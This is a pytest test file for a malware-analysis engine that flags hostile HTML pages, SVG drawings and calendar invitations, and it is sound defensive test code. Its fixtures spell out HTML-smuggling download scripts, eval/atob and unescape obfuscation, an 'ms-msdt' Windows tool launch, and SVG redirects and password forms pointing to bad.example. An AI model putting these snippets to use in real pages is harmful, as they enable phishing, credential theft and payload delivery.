"""Pages, drawings and invitations that do more than show something."""

import base64
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from sample_analysis.engines.inspection import Inspection, run
from sample_analysis.engines.mailing import calendars, pages

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" * 30).decode()
Examine = Callable[..., Any]
MakeZip = Callable[[dict[str, bytes]], bytes]


def escaped(text: str) -> str:
    return "".join(f"%{ord(letter):02x}" for letter in text)


@pytest.mark.parametrize(
    "page",
    [
        "<script>var b=new Blob([atob('{data}')]);a.href=URL.createObjectURL(b);a.download='x.zip'</script>",
        "<a href='data:application/zip;base64,{data}' download='invoice.zip'>open</a>",
        "<script>fetch('data:application/octet-stream;base64,'+'{data}').then(r=>r.blob())</script>",
        "<svg xmlns='http://www.w3.org/2000/svg'><text>{data}</text></svg>",
    ],
)
def test_a_file_that_is_written_into_a_page_is_taken_out(
    examine: Examine, make_zip: MakeZip, eicar: bytes, page: str
) -> None:
    packed = base64.b64encode(make_zip({"a.txt": eicar})).decode()
    report = examine(f"<html><body>{page.replace('{data}', packed)}</body></html>".encode(), "a.html")
    assert report.file("a.txt").verdict == "malicious"
    assert "file-in-text" in report.rules("a.html")


@pytest.mark.parametrize(
    ("name", "page", "rule"),
    [
        ("a.html", "<html><script>eval(atob('{data}'))</script>", "hidden-page"),
        ("a.html", "<html><script>document.write(unescape('{escaped}'))</script>", "hidden-page"),
        ("a.html", "<html><script>location='ms-'+'msdt:/id PCWDiagnostic'</script>", "page-starts-windows-tool"),
        ("a.svg", "<svg><script>window.location.href='https://bad.example/'</script></svg>", "drawing-leads-elsewhere"),
        ("a.svg", "<svg onload='location=&quot;https://bad.example/&quot;'/>", "drawing-leads-elsewhere"),
        (
            "a.svg",
            "<svg><foreignObject><iframe src='https://bad.example/'/></foreignObject></svg>",
            "drawing-leads-elsewhere",
        ),
        (
            "a.svg",
            "<svg><foreignObject><form action='https://bad.example/'><input type='password'/></form></svg>",
            "credential-form",
        ),
        ("a.svg", f"<!--{'x' * 9000}--><x:svg><x:script>eval('')</x:script></x:svg>", "drawing-leads-elsewhere"),
        (
            "a.html",
            "<html><!--<svg--><form action='https://bad.example/'><input type=password></form>",
            "credential-form",
        ),
    ],
)
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_what_hides_or_leads_away_is_suspicious(
    examine: Examine, name: str, page: str, rule: str, charset: str
) -> None:
    data = base64.b64encode(b"location='https://bad.example/'" * 3).decode()
    form = escaped("<form action='https://bad.example/'><input type=password>")
    report = examine(page.replace("{data}", data).replace("{escaped}", form).encode(charset), name)
    assert rule in report.rules(name)
    assert report.root.verdict == "suspicious"


def test_a_page_that_was_hidden_is_looked_at_as_well(examine: Examine) -> None:
    form = escaped("<html><form action='https://bad.example/'><input type=password></form></html>")
    report = examine(f"<html><script>document.write(unescape('{form}'))</script>".encode(), "a.html")
    assert report.rules("decoded page 1") == ["credential-form"]
    assert "https://bad.example/" in [url.url for url in report.parsed.urls]


@pytest.mark.parametrize(
    ("name", "page"),
    [
        (
            "a.html",
            "<html><img src='data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" * 30).decode() + "'>",
        ),
        (
            "a.html",
            "<html><script>document.write(unescape(\"%3Cscript src='https://good.example/ga.js'%3E%3C/script%3E\"))",
        ),
        ("a.html", f"<html><script>x = decodeURIComponent('{quote('Größe und Maße: äöü ßß ' * 9)}')</script>"),
        ("a.html", "<html><a href='https://good.example/'>read</a><script>var a = atob(b) + 'c';</script>"),
        ("a.html", "<!doctype html><svg></svg><script>if (!user) { window.location.href = '/login' }</script>"),
        ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><a href='https://good.example/'><text>x</text></a></svg>"),
        ("a.svg", "<svg><script>document.getElementById('a').setAttribute('fill', 'red')</script></svg>"),
    ],
)
def test_everyday_pages_are_not_suspicious(examine: Examine, name: str, page: str) -> None:
    assert examine(page.encode(), name).root.verdict == "unknown"


def test_an_invitation_gives_its_links_and_attachments(examine: Examine, eicar: bytes) -> None:
    data = base64.b64encode(eicar).decode()
    text = (
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Sign in at https://bad.ex\r\n ample/x\\nnow\r\n"
        f'ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME="a:b.exe":{data[:40]}\r\n {data[40:]}\r\nEND:VEVENT\r\n'
    )
    report = examine(text.encode(), "a.ics")
    assert [url.url for url in report.parsed.urls] == ["https://bad.example/x"]
    assert report.file("a:b.exe").verdict == "malicious"
    assert "embedded-program" in report.rules("a.ics")


@pytest.mark.parametrize(
    ("name", "begin", "mib", "limit"),
    [
        ("a.html", "<html>", 2, "page-bytes"),
        ("a.svg", "<svg>", 2, "page-bytes"),
        ("a.ics", "BEGIN:VCALENDAR\n", 4, "page-bytes"),
        ("a.ps1", "param($x)\n", 2, "script-bytes"),
    ],
)
def test_what_was_not_read_to_its_end_says_so(examine: Examine, name: str, begin: str, mib: int, limit: str) -> None:
    assert examine(f"{begin}{' ' * mib * 1024 * 1024}".encode(), name).limits() == {limit}


@pytest.mark.parametrize(
    "seed", ["ATTACH;", 'ATTACH;"', "ATTACH:A\n", "unescape('%41", "on", "<a:script ", "A" * 59 + " "]
)
def test_hostile_pages_end(inspection: Callable[..., Inspection], seed: str) -> None:
    for look in (pages.inspect, pages.inspect_drawing, calendars.inspect):
        looked = inspection((seed * (100_000 // len(seed))).encode(), "a.html")
        started = time.process_time()
        run(looked, look)
        assert time.process_time() - started < 15
        assert not {"damaged", "parser-time"} & {limit.limit for limit in looked.node.limits}


def test_the_pages_and_drawings_of_the_corpora_are_ordinary(corpora: Path, examine: Examine) -> None:
    files = [path for path in corpora.rglob("*") if path.suffix.lower() in (".svg", ".html", ".ics") and path.is_file()]
    assert {path.name: examine(path.read_bytes(), path.name).root.verdict for path in files} == {
        path.name: "unknown" for path in files
    }
